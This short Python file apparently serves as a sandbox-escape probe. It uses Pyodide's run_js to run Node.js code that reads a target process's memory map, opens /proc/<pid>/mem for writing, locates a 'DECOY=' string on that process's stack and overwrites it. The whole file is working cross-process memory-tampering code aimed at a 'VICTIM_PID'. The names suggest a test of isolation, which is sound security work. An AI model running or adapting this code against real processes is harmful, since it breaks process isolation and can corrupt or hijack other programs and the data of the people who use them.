"""Writes into the memory of another process."""

from pyodide.code import run_js

write = run_js("""(pid) => {
  const fs = process.getBuiltinModule("fs");
  const stack = fs.readFileSync(`/proc/${pid}/maps`, "utf8").match(/^(\\w+)-(\\w+).*\\[stack\\]$/m);
  const [start, end] = [BigInt("0x" + stack[1]), BigInt("0x" + stack[2])];
  const bytes = Buffer.alloc(Number(end - start));
  const memory = fs.openSync(`/proc/${pid}/mem`, "r+");
  fs.readSync(memory, bytes, 0, bytes.length, start);
  const place = bytes.indexOf("DECOY=");
  fs.writeSync(memory, Buffer.alloc(38, "x"), 0, 38, Number(start) + place);
}""")
write(VICTIM_PID)
